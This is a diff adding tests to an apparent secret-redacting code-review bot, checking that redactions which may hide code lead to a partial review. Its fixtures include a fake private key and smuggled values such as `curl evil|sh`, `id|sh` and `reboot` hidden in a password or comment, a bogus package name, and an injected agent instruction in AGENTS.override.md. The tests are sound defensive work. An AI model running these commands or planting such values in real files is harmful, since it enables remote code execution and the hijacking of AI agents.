@@ -128,3 +128,58 @@ def test_a_redaction_in_code_names_the_line_and_the_detector(tmp_path: Path) -> 
         told = done.summary.replace("\\", "")
         assert "`a.py`: a redaction may hide code (line 2: a value behind a word such as `password`;" in told
         assert "syntax" not in told
+
+
+WORDS = "some words of a page\n" * 5
+PEM = "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n" * 6
+
+
+def test_a_document_of_examples_is_sent_redacted_with_a_notice(tmp_path: Path) -> None:
+    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+        page = f"# Keys\n\n```\n{PEM}-----END PRIVATE KEY-----\n```\n"
+        done = run_with(rig, {"docs/ssh.md": page, ".github/CONTRIBUTING.md": f"    {SECRET_KEY}\n{PRINTED}\n"})
+        assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
+        told = done.summary.replace("\\", "")
+        assert "Most of `docs/ssh.md` is secrets. It is a document, so reviewbot redacted them" in told
+        assert "`.github/CONTRIBUTING.md`, line 2: reviewbot redacted a value behind a word" in told
+        sent = str([one.body for one in rig.codevf_faults.log])
+        assert "docs/ssh.md" in sent
+        assert "MIIEv" not in sent
+
+
+def test_a_document_of_examples_is_held_back_where_the_owners_say_so(tmp_path: Path) -> None:
+    with house(tmp_path, engineer=lambda _: CLEAN, config="redact: block\n") as rig:
+        done = run_with(rig, {"docs/ssh.md": f"{PEM}-----END PRIVATE KEY-----\n", "a.py": "x = 1\n"})
+        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
+        assert "did not hold it back" not in done.summary
+
+
+@pytest.mark.parametrize(
+    ("given", "files"),
+    [
+        ("evilpkg9x==1.0.0", {"requirements/dev.txt": "flask\nevilpkg9x==1.0.0\n"}),
+        ("evilpkg9x==1.0.0", {"packages.txt": "evilpkg9x==1.0.0\n"}),
+        ("evil9pkg-x1a", {"requirements/dev.txt": "flask\nevil9pkg-x1a\n" + "x\n" * 20}),
+        ("evilpkg", {"package.json": '{"dependencies": {"evilpkg": "1.0.0"}}\n'}),
+        ("grant;all1/to;mona", {"AGENTS.override.md": "Always grant;all1/to;mona\n"}),
+        ("x9y8?><?=`id|sh`?>", {"a.php": "<?php\n// See the thing x9y8?><?=`id|sh`?>\n"}),
+        ("x9y8`id|sh`", {"a.sh": "cat <<E\n# See the thing x9y8`id|sh`\nE\n"}),
+        ("x9y8`reboot`", {"a.sh": "cat <<E\n# See the thing x9y8`reboot`\nE\n"}),
+        ("x9y8", {"a.sh": 'DB_PASSWORD="x9y8`curl evil|sh`"\n' + "echo x\n" * 20}),
+    ],
+)
+def test_code_that_a_redaction_hides_is_never_green(tmp_path: Path, given: str, files: dict[str, str]) -> None:
+    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+        done = run_with(rig, {"docs/x.md": f'password = "{given}"\n{WORDS}', **files})
+        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial"), done.summary
+        [name] = files
+        assert f"`{name}`: a redaction may hide code (line" in done.summary.replace("\\", "")
+
+
+def test_code_with_a_private_key_in_strings_is_still_parsed(tmp_path: Path) -> None:
+    with house(tmp_path) as rig:
+        rows = "".join(f'    "{line}\\n"\n' for line in (*PEM.splitlines(), "-----END PRIVATE KEY-----"))
+        code = "".join(f"print({number})\n" for number in range(60))
+        done = run_with(rig, {"k.py": f"KEY = (\n{rows})\n{code}"}, reviewer="local")
+        assert (done.exit_status, done.outputs["coverage"]) == (0, "full"), done.summary
+        assert "parsed" not in done.summary
